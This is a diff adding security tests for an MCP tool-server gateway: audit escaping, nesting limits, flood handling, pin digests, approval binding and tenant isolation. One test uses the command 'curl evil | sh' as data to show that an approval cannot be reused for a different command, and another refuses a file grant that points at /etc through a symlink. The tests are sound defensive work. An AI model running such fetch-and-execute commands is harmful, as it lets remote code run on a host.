@@ -1,7 +1,7 @@
 import { execFileSync } from 'node:child_process';
 import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { Audit, Gateway, Policies, Sandbox, Tokens } from '@paddock/sdk';
+import { Audit, Gateway, Policies, Sandbox, Templates, Tokens } from '@paddock/sdk';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { buildFixtureTemplate, fixtureCommand, textOf, whenReady } from '../testing/gateway-fixture.js';
 import { startTestDaemon, type TestDaemon } from '../testing/test-daemon.js';
@@ -121,11 +121,28 @@ describe('the gateway', () => {
       const summary = (denied.at(-1)?.details as { arguments?: Record<string, string> } | undefined)?.arguments?.target;
       expect(summary).toMatch(/^x{80}… \(5000 characters\)$/);
       expect(JSON.stringify(records)).not.toContain(long);
+
+      // What a reviewer reads is what was sent: long keys stay apart, control characters show as escapes.
+      const a = `${'k'.repeat(70)}1`;
+      const b = `${'k'.repeat(70)}2`;
+      await expect(Gateway.callTool('fixture__danger', { [a]: 'rm', [b]: 'ok', note: '\u001b[2Jclear\u202e' }, daemon.conn)).rejects.toMatchObject({
+        code: 'policy_denied',
+      });
+      const last = (await Audit.list({ ...daemon.conn, since: '5m', limit: 10_000 })).filter((r) => r.action === 'mcp.tool.call').at(-1);
+      const shown = (last?.details as { arguments?: Record<string, string> } | undefined)?.arguments ?? {};
+      expect(Object.keys(shown)).toHaveLength(3);
+      expect(shown.note).toBe('\\u001b[2Jclear\\u202e');
+
+      // Arguments nested past 64 levels are refused before anything else, and named.
+      let deep: unknown = 'x';
+      for (let i = 0; i < 100; i++) deep = { d: deep };
+      await expect(Gateway.callTool('fixture__echo', { text: deep }, daemon.conn)).rejects.toMatchObject({ code: 'invalid_request' });
       expect(records).toContainEqual(
         expect.objectContaining({ action: 'mcp.tool.call', decision: 'allow', outcome: 'ok', details: expect.objectContaining({ tool: 'calls' }) }),
       );
     } finally {
       rmSync(policy);
+      await expect.poll(async () => (await Policies.list(daemon.conn)).policies.map((p) => p.name).join(' '), { timeout: 10_000 }).not.toMatch(/no-danger/);
     }
   });
 
@@ -154,6 +171,36 @@ describe('a hostile server', () => {
     const result = await Gateway.callTool('fixture__evil_schema', {}, daemon.conn);
     expect(result.structuredContent).toEqual({ s: `${'a'.repeat(40)}!` });
     expect((await daemon.api('/v1/health')).status).toBe(200);
+  });
+
+  it('cannot flood the daemon with messages: past 2000 a second the connection is cut and the server starts again', async () => {
+    const before = await whenReady('fixture', daemon.conn);
+    await expect(Gateway.callTool('fixture__spam', {}, daemon.conn)).rejects.toMatchObject({ code: 'gateway_server_crashed' });
+    const after = await whenReady('fixture', daemon.conn, (s) => s.restarts > before.restarts);
+    expect(after.lastError).toMatch(/more than 2000 messages in a second/);
+    expect((await daemon.api('/v1/health')).status).toBe(200);
+  });
+
+  it('cannot stall or wedge the daemon with a schema nested deep or a tool list too long: those tools are left out', async () => {
+    await Gateway.add(
+      'sprawling',
+      {
+        command: fixture,
+        manifest: { template: 'mcp-fixture', tier: 'container', env: { FIXTURE_EXTRA_TOOLS: '3000', FIXTURE_DEEP_SCHEMA: '1500' } },
+        pin: true,
+      },
+      daemon.conn,
+    );
+    const ready = await whenReady('sprawling', daemon.conn, (s) => s.pinnedAt !== null);
+    expect(ready.tools).toHaveLength(1000);
+    expect(ready.tools.map((t) => t.tool)).not.toContain('deep');
+    expect(textOf(await Gateway.callTool('sprawling__echo', { text: 'fine' }, daemon.conn))).toBe('fine');
+    const logs = await Gateway.logs('sprawling', daemon.conn);
+    expect(logs).toEqual(expect.arrayContaining([expect.stringMatching(/tool left out: deep: its schemas nest deeper than 64 levels/)]));
+    expect(logs.filter((l) => /tool left out/.test(l)).length).toBeLessThanOrEqual(101);
+    const sandboxId = ready.sandboxId as string;
+    await Gateway.remove('sprawling', daemon.conn);
+    await expect.poll(() => existsSync(join(daemon.stateDir, 'sandboxes', sandboxId)), { timeout: 10_000 }).toBe(false);
   });
 
   it('cannot ask the gateway to sample a model or to list roots: the gateway offers the server nothing', async () => {
@@ -186,7 +233,13 @@ describe('pinned tool descriptions', () => {
     // The other tools are as pinned and still offered.
     expect(textOf(await Gateway.callTool('pinned__env', { name: 'HOME' }, daemon.conn))).toBeTruthy();
 
-    await Gateway.pin('pinned', daemon.conn);
+    // A pin names what the operator reviewed: a listing that changed since is not pinned.
+    const reviewed = Object.fromEntries((await Gateway.get('pinned', daemon.conn)).tools.map((t) => [t.tool, t.digest]));
+    await expect(Gateway.pin('pinned', { ...daemon.conn, digests: { ...reviewed, echo: '0'.repeat(64) } })).rejects.toMatchObject({
+      code: 'gateway_tools_changed',
+      details: { changed: ['echo'] },
+    });
+    await Gateway.pin('pinned', { ...daemon.conn, digests: reviewed });
     expect(textOf(await Gateway.callTool('pinned__echo', { text: 'reviewed' }, daemon.conn))).toBe('reviewed');
   });
 
@@ -217,6 +270,13 @@ describe('who may do what', () => {
       await expect(Gateway.add('files', { command: fixture, manifest: { template: 'mcp-fixture', files: { read: [dir] } } }, asOperator)).rejects.toMatchObject(
         { code: 'policy_denied', message: expect.stringMatching(/only an admin/) },
       );
+      // Nor on a template the tenant builds: an operator could rebuild it into other code after the admin looked.
+      await Templates.build({ ...asOperator, name: 'tenant-own', paddockfile: 'FROM mcp-fixture\nRUN true\n' });
+      await expect(Gateway.add('files', { command: fixture, manifest: { template: 'tenant-own', files: { read: [dir] } } }, daemon.conn)).rejects.toMatchObject(
+        {
+          code: 'gateway_template_not_shared',
+        },
+      );
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
@@ -232,6 +292,52 @@ describe('who may do what', () => {
     await Gateway.remove('counted', conn);
     const sbx = await Sandbox.create(conn);
     await sbx.kill();
+  });
+
+  it('binds an approval of a new server to its whole request, command included', async () => {
+    const policy = join(daemon.stateDir, 'policies', '70-ask-servers.cedar');
+    writeFileSync(
+      policy,
+      '@id("ask-servers")\n@ask("a human looks at every server")\nforbid (principal, action == Paddock::Action::"gateway.server.set", resource);\n',
+    );
+    try {
+      await expect.poll(async () => (await Policies.list(daemon.conn)).policies.map((p) => p.name).join(' '), { timeout: 10_000 }).toMatch(/ask-servers/);
+      const asked = await Gateway.add('approved', { command: fixture, manifest: { template: 'mcp-fixture', tier: 'container' } }, daemon.conn).catch((e) => e);
+      expect(asked).toMatchObject({ code: 'approval_required' });
+      const approvalId = asked.details.approvalId as string;
+      const pending = await daemon.api(`/v1/approvals/${approvalId}`).then((r) => r.json());
+      expect(pending).toMatchObject({ context: { serverCommand: 'node /opt/fixture/server.mjs', requestDigest: expect.stringMatching(/^[0-9a-f]{64}$/) } });
+      // Whatever a human decides on it, that approval cannot carry another command.
+      const other = await daemon.api('/v1/gateway/servers', {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', 'paddock-approval': approvalId },
+        body: JSON.stringify({ name: 'approved', command: ['sh', '-c', 'curl evil | sh'], manifest: { template: 'mcp-fixture', tier: 'container' } }),
+      });
+      expect(other.status).toBe(403);
+      expect(((await other.json()) as { error: { code: string } }).error.code).toBe('approval_denied');
+    } finally {
+      rmSync(policy);
+      await expect.poll(async () => (await Policies.list(daemon.conn)).policies.map((p) => p.name).join(' '), { timeout: 10_000 }).not.toMatch(/ask-servers/);
+    }
+  });
+
+  it('refuses to delete a tenant that still has gateway servers, and serializes concurrent changes of one server', async () => {
+    await daemon.api('/v1/tenants', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"gw-busy"}' });
+    const operator = await Tokens.create({ tenant: 'gw-busy', role: 'operator' }, daemon.conn);
+    const conn = { url: daemon.url, token: operator.token };
+    const spec = { command: fixture, manifest: { template: 'mcp-fixture', tier: 'container' as const } };
+    await Gateway.add('busy', spec, conn);
+    // Two replacements at once: each waits for the other, and one server is left, not two.
+    await Promise.all([Gateway.set('busy', spec, conn), Gateway.set('busy', spec, conn)]);
+    await whenReady('busy', conn);
+    const refused = await daemon.api('/v1/tenants/gw-busy', { method: 'DELETE' });
+    expect(refused.status).toBe(409);
+    expect(((await refused.json()) as { error: { message: string } }).error.message).toMatch(/gateway servers/);
+    // The tenant's usage counts its servers' sandboxes: one while the server runs, none once it is removed.
+    const usage = async () => ((await daemon.api('/v1/tenants/gw-busy').then((r) => r.json())) as { usage: { sandboxes: number } }).usage.sandboxes;
+    expect(await usage()).toBe(1);
+    await Gateway.remove('busy', conn);
+    expect(await usage()).toBe(0);
   });
 
   it("keeps one tenant's servers and tools invisible to another (D2)", async () => {
@@ -293,6 +399,21 @@ describe('manifests', () => {
     } finally {
       rmSync(link);
     }
+    // A link to a system folder is refused once resolved; a grant inside a writable one is refused outright.
+    const toEtc = `${daemon.stateDir}-etc`;
+    symlinkSync('/etc', toEtc);
+    try {
+      await expect(
+        Gateway.add('bad', { command: fixture, manifest: { template: 'mcp-fixture', files: { read: [toEtc] } } }, daemon.conn),
+      ).rejects.toMatchObject({
+        code: 'gateway_file_refused',
+      });
+    } finally {
+      rmSync(toEtc);
+    }
+    await expect(
+      Gateway.add('bad', { command: fixture, manifest: { template: 'mcp-fixture', files: { write: ['/srv/a'], read: ['/srv/a/b'] } } }, daemon.conn),
+    ).rejects.toMatchObject({ code: 'invalid_request' });
     await expect(Gateway.add('Bad_Name', { command: fixture, manifest: {} }, daemon.conn)).rejects.toMatchObject({ code: 'invalid_request' });
     await expect(Gateway.add('fixture', { command: fixture, manifest: { template: 'mcp-fixture', tier: 'container' } }, daemon.conn)).rejects.toMatchObject({
       code: 'gateway_server_exists',
